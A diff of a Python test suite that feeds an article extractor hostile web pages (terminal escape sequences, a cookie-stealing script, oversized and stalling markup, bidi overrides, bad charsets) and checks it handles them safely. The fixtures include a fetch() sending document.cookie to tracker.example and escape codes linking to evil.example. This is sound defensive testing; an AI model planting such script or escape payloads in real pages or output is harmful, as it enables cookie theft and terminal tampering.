@@ -76,7 +76,7 @@ class PageWorld:
         self.store = store
         self.settings = settings
 
-    def serve(self, hostile: Reply | None, path: str = "/hostile-page") -> None:
+    def serve(self, hostile: Reply) -> None:
         items = []
         for key, paragraphs in REPORTS.items():
             self.server.routes[f"/good/{key}"] = Reply(200, page(key.title(), paragraphs), HTML)
@@ -88,12 +88,11 @@ class PageWorld:
                     "description": f"Teaser for {key}.",
                 }
             )
-        if hostile is not None:
-            self.server.routes[path] = hostile
+        self.server.routes["/hostile-page"] = hostile
         items.append(
             {
                 "title": "Hostile page",
-                "link": self.server.url(path),
+                "link": self.server.url("/hostile-page"),
                 "guid": "hostile",
                 "description": "The feed's own teaser.",
             }
@@ -105,6 +104,20 @@ class PageWorld:
         settings = settings or self.settings
         async with client(settings) as http:
             return await run(self.store, settings, client=http, later_stages=False)
+
+    async def run(
+        self, hostile: Reply, settings: Settings | None = None
+    ) -> tuple[RunReport, Article]:
+        """Serve `hostile` beside the good pages, fetch, and return the run and its article."""
+        self.serve(hostile)
+        report = await self.fetch(settings)
+        return report, self.hostile()
+
+    async def extracted(self, title: str, paragraphs: list[str]) -> Article:
+        """Run with a hostile page built from `paragraphs`; it must come out extracted."""
+        _, hostile = await self.run(Reply(200, page(title, paragraphs), HTML))
+        assert hostile.extract_status == "ok", hostile.extract_error
+        return hostile
 
     def articles(self) -> dict[str, Article]:
         return {a.guid: a for a in article_store.all_articles(self.store)}
@@ -137,9 +150,9 @@ async def test_a_page_with_escape_characters_is_still_extracted(pages: PageWorld
         f"{esc}]8;;https://evil.example/\x07The report{esc}]8;;\x07 recommends hardware keys "
         "for every remote administrator account.",
     ]
-    pages.serve(Reply(200, page(f"{esc}]0;owned{esc}\\Breach report", paragraphs), HTML))
-    report = await pages.fetch()
-    hostile = pages.hostile()
+    report, hostile = await pages.run(
+        Reply(200, page(f"{esc}]0;owned{esc}\\Breach report", paragraphs), HTML)
+    )
     assert hostile.extract_status == "ok", hostile.extract_error
     assert "The agency said the breach began with a stolen contractor password." in hostile.text
     assert "Investigators found the intruders had been inside for weeks." in hostile.text
@@ -155,10 +168,7 @@ async def test_a_page_with_a_nul_byte_is_still_extracted(pages: PageWorld) -> No
         "Engineers restored service after isolating the faulty certificate update.",
         "The central bank said no customer data had been exposed during the incident.",
     ]
-    pages.serve(Reply(200, page("Outage", paragraphs), HTML))
-    await pages.fetch()
-    hostile = pages.hostile()
-    assert hostile.extract_status == "ok", hostile.extract_error
+    hostile = await pages.extracted("Outage", paragraphs)
     assert "the outage affected payment terminals" in hostile.text
     pages.assert_good_extracted()
 
@@ -168,10 +178,10 @@ async def test_a_20_megabyte_page_is_refused_at_the_page_cap(
 ) -> None:
     huge = page("Huge", ["A sentence about nothing in particular. " * 500_000])
     assert len(huge) > 20_000_000
-    pages.serve(Reply(200, huge, HTML))
     # The feed cap is 30 MB here: the page cap (5 MB) is what refuses it.
-    report = await pages.fetch(replace(full, max_response_bytes=30_000_000))
-    hostile = pages.hostile()
+    report, hostile = await pages.run(
+        Reply(200, huge, HTML), replace(full, max_response_bytes=30_000_000)
+    )
     assert hostile.extract_status == "failed"
     assert "over the 5,000,000-byte cap" in (hostile.extract_error or "")
     assert hostile.summary == "The feed's own teaser."  # the feed's summary is kept
@@ -184,11 +194,12 @@ async def test_a_page_that_stalls_the_extractor_is_stopped_by_the_time_limit(
 ) -> None:
     # 100,000 sibling divs keep trafilatura busy for many seconds; the limit is 5 s.
     flood = "<div>x</div>" * 100_000
-    pages.serve(Reply(200, page("Slow", REPORTS["grid"][:1], extra=flood), HTML))
     start = time.perf_counter()
-    report = await pages.fetch(replace(full, max_response_bytes=3_000_000))
+    report, hostile = await pages.run(
+        Reply(200, page("Slow", REPORTS["grid"][:1], extra=flood), HTML),
+        replace(full, max_response_bytes=3_000_000),
+    )
     assert time.perf_counter() - start < 12
-    hostile = pages.hostile()
     assert hostile.extract_status == "failed"
     assert hostile.extract_error == "extraction: gave up after 5 s"
     assert report.extract_failed == 1
@@ -201,10 +212,7 @@ async def test_markup_like_brackets_in_page_text_are_stored_literally(pages: Pag
         "Analysts said strings such as [bold red]URGENT[/] are common in phishing lures.",
         "The vendor added that a template like {{ user.password }} was never evaluated.",
     ]
-    pages.serve(Reply(200, page("Brackets", paragraphs), HTML))
-    await pages.fetch()
-    hostile = pages.hostile()
-    assert hostile.extract_status == "ok", hostile.extract_error
+    hostile = await pages.extracted("Brackets", paragraphs)
     for paragraph in paragraphs:
         assert paragraph in hostile.text
     pages.assert_good_extracted()
@@ -216,9 +224,7 @@ async def test_a_page_of_only_script_and_style_keeps_the_feed_summary(pages: Pag
         b"</head><body><script>fetch('https://tracker.example/?c='+document.cookie)</script>"
         b"<style>.paywall{position:fixed}</style></body></html>"
     )
-    pages.serve(Reply(200, only_code, HTML))
-    await pages.fetch()
-    hostile = pages.hostile()
+    _, hostile = await pages.run(Reply(200, only_code, HTML))
     assert hostile.extract_status == "failed"
     assert hostile.extract_error == "no article text found on the page"
     assert hostile.text == "" and hostile.summary == "The feed's own teaser."
@@ -234,9 +240,7 @@ async def test_a_page_in_a_bogus_charset_is_decoded_without_harm(pages: PageWorl
     ]
     body = page("Charset", paragraphs).replace(b"charset='utf-8'", b"charset='x-no-such-codec'")
     body = body.replace("caf\xe9".encode(), b"caf\xe9\xff\xfe")  # latin-1 byte, then junk
-    pages.serve(Reply(200, body, {"Content-Type": "text/html"}))
-    await pages.fetch()
-    hostile = pages.hostile()
+    _, hostile = await pages.run(Reply(200, body, {"Content-Type": "text/html"}))
     assert hostile.extract_status == "ok", hostile.extract_error
     assert "had not paid the ransom demanded by the group" in hostile.text
     hostile.text.encode("utf-8")
@@ -249,10 +253,7 @@ async def test_a_page_with_bidi_overrides_is_extracted_without_them(pages: PageW
         "Security teams said the \u2066isolate\u2069 trick also hides text in code reviews.",
         "Mail filters were updated to flag file names that mix writing directions.",
     ]
-    pages.serve(Reply(200, page("Bidi", paragraphs), HTML))
-    await pages.fetch()
-    hostile = pages.hostile()
-    assert hostile.extract_status == "ok", hostile.extract_error
+    hostile = await pages.extracted("Bidi", paragraphs)
     assert "The attachment was named gpj.exe to look like a photograph." in hostile.text
     assert "the isolate trick" in hostile.text
     pages.assert_good_extracted()
